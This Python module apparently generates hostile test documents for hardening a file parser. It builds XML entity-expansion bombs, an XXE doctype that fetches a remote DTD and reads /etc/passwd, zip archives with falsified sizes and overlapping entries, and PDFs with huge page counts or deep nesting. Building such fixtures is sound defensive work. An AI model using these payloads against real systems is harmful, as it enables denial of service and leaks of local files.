"""Files made to do harm, a few kilobytes each: what they unpack to, refer to or repeat is what hurts."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence

XLSX_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:{}:1.0"


def archive(parts: Mapping[str, bytes | str], packed: bool = True) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED, compresslevel=1) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return stream.getvalue()


# ---- workbooks


def xlsx(sheet: str, strings: str = "", head: str = "", **more: str) -> bytes:
    """A workbook with one sheet; `sheet` is what stands in its worksheet element, `head` what stands before that."""
    parts = {
        "[Content_Types].xml": XLSX_TYPES,
        "_rels/.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{RELATION}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{RELATION}"><sheets><sheet name="表" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{RELATION}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="r2" Type="{RELATION}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?>{head}<worksheet xmlns="{MAIN}">{sheet}</worksheet>',
        "xl/sharedStrings.xml": f'<?xml version="1.0"?>{head}<sst xmlns="{MAIN}">{strings}</sst>',
        **more,
    }
    return archive(parts)


def rows(*lines: Sequence[str | float]) -> str:
    """Sheet data with inline texts and numbers, from A1."""
    made = []
    for number, line in enumerate(lines, 1):
        cells = "".join(
            f'<c r="{chr(65 + at)}{number}" t="inlineStr"><is><t>{value}</t></is></c>'
            if isinstance(value, str)
            else f'<c r="{chr(65 + at)}{number}"><v>{value}</v></c>'
            for at, value in enumerate(line)
        )
        made.append(f'<row r="{number}">{cells}</row>')
    return f"<sheetData>{''.join(made)}</sheetData>"


SHEET = rows(("科目", "金额"), ("合计", 12.5))


def ods(content: str, head: str = "") -> bytes:
    spaces = " ".join(f'xmlns:{name}="{OFFICE.format(name)}"' for name in ("office", "table", "text"))
    body = f"<office:body><office:spreadsheet>{content}</office:spreadsheet></office:body>"
    return archive(
        {
            "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": f'<?xml version="1.0"?>{head}<office:document-content {spaces}>{body}</office:document-content>',
        }
    )


def docx(body: str, head: str = "", **more: str) -> bytes:
    document = f'<?xml version="1.0"?>{head}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'
    return archive({"[Content_Types].xml": XLSX_TYPES, "word/document.xml": document, **more})


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a0 "哈">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)) + "]>"
)
"""Ten to the eleventh times one character, if it were resolved as &a11;."""
FETCHING = '<!DOCTYPE x SYSTEM "http://203.0.113.7/x.dtd" [<!ENTITY local SYSTEM "file:///etc/passwd">]>'


def lying(data: bytes, name: str, size: int) -> bytes:
    """The archive with another unpacked size written into both of the headers of a part."""
    made = bytearray(data)
    for mark, at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        start = -1
        while (start := made.find(mark, start + 1)) >= 0:
            if made[start + name_at : start + name_at + len(name)] == name.encode():
                made[start + at : start + at + 4] = struct.pack("<I", size)
    return bytes(made)


def overlapping(times: int, size: int) -> bytes:
    """An archive whose entries are all the same packed bytes, each `size` bytes unpacked."""
    zeros = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = zeros.compress(bytes(size)) + zeros.flush()
    crc = zlib.crc32(bytes(size))
    fixed = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(packed), size)
    local = b"PK\x03\x04" + fixed + struct.pack("<HH", 5, 0) + b"a.xml" + packed
    entries = b""
    for number in range(times):
        name = "xl/workbook.xml" if number == 0 else f"xl/{number}.xml"
        entries += (
            b"PK\x01\x02"
            + struct.pack("<H", 20)
            + fixed
            + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0)
            + name.encode()
        )
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, times & 0xFFFF, times & 0xFFFF, len(entries), len(local), 0)
    return local + entries + end


# ---- PDF


def raw_pdf(objects: Mapping[int, bytes], root: int = 1, trailer: bytes = b"") -> bytes:
    """A PDF of these numbered objects."""
    made, places = b"%PDF-1.7\n", {}
    for number, body in objects.items():
        places[number] = len(made)
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, last = len(made), max(objects)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (last + 1)
    for number in range(1, last + 1):
        made += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    return made + b"trailer<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (last + 1, root, trailer, start)


def stream(content: bytes, more: bytes = b"", packed: bool = False) -> bytes:
    if packed:
        content, more = zlib.compress(content, 1), more + b"/Filter/FlateDecode"
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), more, content)


FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
WORDS = b"BT /F1 12 Tf 72 700 Td (Total 12.50) Tj ET"


def one_page(
    content: bytes, box: bytes = b"[0 0 595 842]", catalog: bytes = b"", page: bytes = b"", **more: bytes
) -> bytes:
    """A PDF of one page with this content stream; `more` are further objects, named o6, o7 and so on."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox%s/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>>>/Contents 4 0 R%s>>"
        % (box, page),
        4: content,
        5: FONT,
        **{int(name[1:]): body for name, body in more.items()},
    }
    return raw_pdf(objects)


def many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 5) for number in range(count))
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count),
        3: FONT,
        4: stream(WORDS),
    }
    one = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 3 0 R>>>>/Contents 4 0 R>>"
    return raw_pdf({**objects, **{number + 5: one for number in range(count)}})


def nested_arrays(depth: int) -> bytes:
    return one_page(stream(WORDS), page=b"/Deep " + b"[" * depth + b"]" * depth)


Made = Callable[[], bytes]
